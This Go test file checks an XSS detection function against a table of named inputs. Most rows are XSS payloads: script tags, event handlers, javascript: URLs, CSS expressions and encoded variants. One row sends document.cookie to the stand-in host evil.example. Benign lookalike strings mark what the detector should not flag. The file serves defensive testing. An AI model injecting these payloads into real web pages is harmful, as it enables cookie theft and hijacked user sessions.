package xss

import (
	"strings"
	"testing"
)

// cases is the table of named rows shared by the unit test and the fuzz
// seeds. Attack rows are written for this table, not taken from the corpus.
var cases = []struct {
	name  string
	in    string
	match bool
}{
	// Tags that execute or load.
	{"script", `<script>alert(1)</script>`, true},
	{"script odd case", `<ScRiPt>prompt(1)</sCrIpT>`, true},
	{"script src", `<script src=//evil.example/x.js></script>`, true},
	{"script nul after lt", "<\x00script>alert(1)</script>", true},
	{"script nul in name", "<scr\x00ipt>alert(1)</script>", true},
	{"script form-encoded space", `"><script+src=//evil.example/x.js>`, true},
	{"iframe", `<iframe src="//evil.example"></iframe>`, true},
	{"object", `<object data="evil.swf">`, true},
	{"embed", `<embed src=evil.swf>`, true},
	{"base", `<base href="//evil.example/">`, true},
	{"link import", `<link rel=import href=//evil.example/x>`, true},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=//evil.example">`, true},
	{"svg onload", `<svg/onload=alert(1)>`, true},
	{"svg alone", `<svg>`, true},
	{"math", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, true},
	{"namespaced script", `<html:script>alert(1)</html:script>`, true},
	{"svg prefix", `<svg:g onload="alert(1)"/>`, true},
	{"style tag", `<style>body{background:red}</style>`, true},
	{"end script", `</script><b>`, true},
	{"unclosed tag at end", `<img src=x onerror=alert(1)`, true},

	// Event handlers.
	{"img onerror", `<img src=x onerror=alert(1)>`, true},
	{"img onerror quoted", `<IMG SRC="x" ONERROR="alert(document.domain)">`, true},
	{"unknown handler in tag", `<x onanything=foo()>`, true},
	{"details ontoggle", `<details open ontoggle=confirm(1)>`, true},
	{"body onload", `<body onload=alert(1)>`, true},
	{"video source onerror", `<video><source onerror="alert(1)">`, true},
	{"handler after slash", `<img/src/onerror=alert(1)>`, true},
	{"handler separated by form feed", "<img src=x\x0conerror=alert(1)>", true},
	{"handler glued to junk", `<body onload!#$%=alert(1)>`, true},
	{"handler with entities", `<a onclick="&#97;lert(1)">x</a>`, true},
	{"handler after empty value", `<img src= onerror="alert(1)">`, true},
	{"xml events", `<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">`, true},
	{"svg animate handler", `<animate attributeName="onbegin" to="alert(1)"/>`, true},
	{"set href", `<set attributeName="href" to="javascript:alert(1)"/>`, true},

	// Breaking out of an attribute value.
	{"double quote breakout", `" onmouseover=alert(1) x="`, true},
	{"single quote breakout", `' onfocus='alert(1)' autofocus x='`, true},
	{"glued breakout", `x"onpointerenter="alert(1)`, true},
	{"unquoted breakout", `x onerror=alert(1)`, true},
	{"breakout into tag", `"><img src=x onerror=alert(1)>`, true},
	{"breakout percent-encoded", `%22%20onmouseover%3Dalert(1)%20x%3D%22`, true},
	{"handler alone known", `onmouseover=alert(1);`, true},
	{"handler alone plain value", `onload=x`, true},

	// Script URLs.
	{"javascript url", `javascript:alert(1)`, true},
	{"javascript url in href", `<a href="javascript:void(0)">x</a>`, true},
	{"javascript url entities", `<a href="&#106;avascript&colon;alert(1)">x</a>`, true},
	{"javascript url padded entities", `<a href="&#0000106&#0000097vascript:alert(1)">x</a>`, true},
	{"javascript url tab", "<a href=\"java\tscript:alert(1)\">x</a>", true},
	{"javascript url tab entity", `<a href="java&Tab;script:alert(1)">x</a>`, true},
	{"javascript url control prefix", "<a href=\"\x01javascript:alert(1)\">x</a>", true},
	{"javascript url fullwidth", "<a href=\"ｊａｖａｓｃｒｉｐｔ:alert(1)\">x</a>", true},
	{"javascript url percent", `javascript:alert%281%29`, true},
	{"javascript url label", `javascript:javascript:alert(1)`, true},
	{"javascript url comment", `javascript://%0aalert(1)`, true},
	{"javascript url in query", `?next=javascript:alert(document.cookie)`, true},
	{"vbscript url", `<img src="vbscript:msgbox(1)">`, true},
	{"formaction", `<button formaction=javascript:alert(1)>x`, true},
	{"form action", `<form action="javascript:alert(1)"><input type=submit>`, true},
	{"data html", `<a href="data:text/html,<script>alert(1)</script>">`, true},
	{"data html base64", `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, true},
	{"data base64 markup under other type", `<a href="data:application/octet-stream;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, true},
	{"data svg", `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, true},
	{"srcdoc", `<x srcdoc="&lt;img src=x onerror=alert(1)&gt;">`, true},

	// CSS.
	{"style expression", `<div style="width:expression(alert(1))">`, true},
	{"style expression escaped", `<div style="width:\65 xpression(alert(1))">`, true},
	{"style expression comment", `<div style="width:expr/**/ession(alert(1))">`, true},
	{"style javascript url", `<div style="background:url(javascript:alert(1))">`, true},
	{"style binding", `<div style="-moz-binding:url(//evil.example/x.xml#x)">`, true},
	{"style attr breakout", `x" style="behavior:url(#default#time2)" onbegin="alert(1)`, true},

	// Comments, CDATA, declarations.
	{"script in comment", `<!--<script>alert(1)</script>-->`, true},
	{"conditional comment", `<!--[if IE]><img src=x onerror=alert(1)><![endif]-->`, true},
	{"cdata", `<![CDATA[<script>alert(1)</script>]]>`, true},
	{"attlist", `<!DOCTYPE x [<!ATTLIST img onerror CDATA "alert(1)">]><img>`, true},
	{"xml stylesheet data", `<?xml-stylesheet type="text/xsl" href="data:,x"?>`, true},
	{"markup in attribute", `<x title="<script>alert(1)</script>">`, true},

	// Encodings.
	{"url-encoded tag", `%3Cscript%3Ealert(1)%3C%2Fscript%3E`, true},
	{"iis-encoded tag", `%u003Cscript%u003Ealert(1)`, true},
	{"entity-encoded tag", `&lt;img src=x onerror=alert(1)&gt;`, true},
	{"numeric lt", `&#x3C;`, true},
	{"numeric lt padded", `&#0000060`, true},
	{"json-escaped tag", `\u003cimg src=x onerror=alert(1)\u003e`, true},
	{"hex-escaped breakout", `\x22 onfocus=alert(1) autofocus \x22`, true},
	{"double-encoded entity in url", `<a href="jav&amp;#x09;ascript:alert(1)">x</a>`, true},

	// Script context.
	{"single quote breakout", `';alert(1)//`, true},
	{"double quote breakout", `"-alert(1)-"`, true},
	{"quote close call", `');confirm(1);//`, true},
	{"breakout unterminated", `'); prompt('x`, true},
	{"breakout browser call", `';document.write(1)//`, true},
	{"breakout location", `";window.location='//evil.example/?'+document.cookie;//`, true},
	{"number context", `1;alert(1)//`, true},
	{"sink template", "alert`1`", true},
	{"sink parenthesized", `(alert)(1)`, true},
	{"sink passed", `[1].map(alert)`, true},
	{"sink assigned", `a=alert,a(1)`, true},
	{"sink computed", `top["al"+"ert"](1)`, true},
	{"sink escaped", `\u0061lert(1)`, true},
	{"sink call", `eval.call(null,'alert(1)')`, true},
	{"entity-encoded call", `alert&lpar;1&rpar;`, true},
	{"template injection", `{{constructor.constructor('alert(1)')()}}`, true},
	{"template injection on", `{{$on.constructor('alert(1)')()}}`, true},
	{"expression in style attribute alone", `style=x:expression(alert(1))`, true},

	// Ordinary text.
	{"less than", `a < b and c > d`, false},
	{"heart", `<3`, false},
	{"query parameter named after a sink's word", `q=alert`, false},
	{"sink assigned then called", `a=alert,a(1)`, true},
	{"netscape script entity in an attribute", `<img src="&{alert(1)};">`, true},
	{"netscape script entity injected", `x" title=&{alert(1)};`, true},
	{"password with an ampersand and a brace", `@r3=y&{fe[y`, false},
	{"password with an entity-like brace run", `n=r:_&{kb90p*}!`, false},
	{"i heart you", `I <3 you`, false},
	{"email", `John <john@example.com>`, false},
	{"code", `if (a<b) { return a; }`, false},
	{"generics", `func Map[T any](s []T) []T`, false},
	{"java generics", `List<String> names = new ArrayList<>();`, false},
	{"markdown", "## Title\n\n* one\n* two\n\n[link](https://example.com) `x := 1`", false},
	{"bold", `<b>bold</b> and <i>italic</i>`, false},
	{"paragraph", `<p>Hello<br>world</p>`, false},
	{"link", `<a href="https://example.com/a?b=c&amp;d=e">link</a>`, false},
	{"mailto", `<a href="mailto:support@example.com">mail</a>`, false},
	{"image", `<img src="https://cdn.example.com/a.png" alt="a">`, false},
	{"data image", `<img src="data:image/png;base64,iVBORw0KGgo=">`, false},
	{"table", `<table border="1"><tr><td>x</td></tr></table>`, false},
	{"span class", `<span class="note" style="color:red;font-weight:bold">x</span>`, false},
	{"javascript prose", `JavaScript: The Good Parts`, false},
	{"javascript prose paren", `JavaScript: The Good Parts (2008)`, false},
	{"alert prose", `Please alert(me) when it ships`, false},
	{"alert word", `Set an alert for 5pm`, false},
	{"confirm prose", `Confirm (yes/no)?`, false},
	{"prompt prose", `Your prompt: write a poem`, false},
	{"apostrophes", `It's O'Brien's; don't (really) mind`, false},
	{"quotes", `He said "stop" - and left (quickly).`, false},
	{"js snippet", "const total = items.reduce((a, b) => a + b.price, 0);", false},
	{"go snippet", `fmt.Println("hello, world")`, false},
	{"sql", `SELECT * FROM t WHERE a = 'x' AND f(b) > 1`, false},
	{"online word", `online=true&onboarding=done`, false},
	{"one attribute", `<p one="two">x</p>`, false},
	{"entity text", `Fish &amp; Chips &lt;3`, false},
	{"comment plain", `<!-- just a note -->`, false},
	{"doctype", `<!DOCTYPE html>`, false},
	{"xml prolog", `<?xml version="1.0" encoding="UTF-8"?>`, false},
	{"stylesheet pi", `<?xml-stylesheet type="text/xsl" href="style.xsl"?>`, false},
	{"url", `https://example.com/search?q=a+b&page=2#top`, false},
	{"percent text", `100% sure, 50%off`, false},
	{"template", `Hello {{ user.name }}, you have {{count}} messages`, false},
	{"json", `{"a": [1, 2], "b": {"c": "d"}}`, false},
	{"arrow", `a -> b => c <- d`, false},
	{"soap", `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">`, false},
	{"word paste", `<o:p xmlns:o="urn:schemas-microsoft-com:office:office"></o:p>`, false},
	{"windows path", `C:\x64\tools\u00e9t\on=1`, false},
	{"json escapes", `{\"a\":\"caf\u00e9 \u0026 cr\u00e8me\"}`, false},
	{"empty", ``, false},
}

func TestCheck(t *testing.T) {
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			h, ok := Check([]byte(c.in))
			if ok != c.match {
				t.Fatalf("Check(%q) = %q, %v; want match %v", c.in, h, ok, c.match)
			}
			if ok && h == "" {
				t.Fatalf("Check(%q) matched with an empty highlight", c.in)
			}
			if !ok && h != "" {
				t.Fatalf("Check(%q) returned highlight %q without a match", c.in, h)
			}
		})
	}
}

func TestHighlight(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`x<script>alert(1)</script>`, `<script`},
		{`<img src=x onerror=alert(1)>`, `onerror=alert(1)`},
		{`" onmouseover=alert(1) x="`, `onmouseover=alert(1)`},
		{`<a href="javascript:alert(1)">`, `href="javascript:alert(1)"`},
		{`%3Cscript%3E`, `<script`},
		{`';alert(1)//`, `alert(1)`},
		{`<!--<script>-->`, `<script`},
	} {
		h, ok := Check([]byte(c.in))
		if !ok || !strings.Contains(h, c.want) {
			t.Errorf("Check(%q) = %q, %v; want a highlight containing %q", c.in, h, ok, c.want)
		}
	}
	long := "<script>" + strings.Repeat("a", 500)
	if h, _ := Check([]byte(long)); len(h) > maxHighlight {
		t.Errorf("highlight of %d bytes, above %d", len(h), maxHighlight)
	}
}

func TestMaxLen(t *testing.T) {
	pad := strings.Repeat("a", MaxLen)
	if _, ok := Check([]byte(pad + "<script>")); ok {
		t.Error("Check looked past MaxLen")
	}
	if _, ok := Check([]byte(pad[:MaxLen-8] + "<script>")); !ok {
		t.Error("Check missed a payload inside MaxLen")
	}
}

func TestNoAllocs(t *testing.T) {
	for _, in := range []string{
		"a perfectly ordinary value of about fifty bytes....",
		`<p>Hello <a href="https://example.com">x</a></p>`,
		`100%25 of the values, &amp; more: a=b; c=(d)`,
		strings.Repeat("%41&amp;", 400), // decoded in a pooled buffer
	} {
		b := []byte(in)
		if n := testing.AllocsPerRun(100, func() { Check(b) }); n != 0 {
			t.Errorf("Check(%.40q...) allocated %v times", in, n)
		}
	}
}
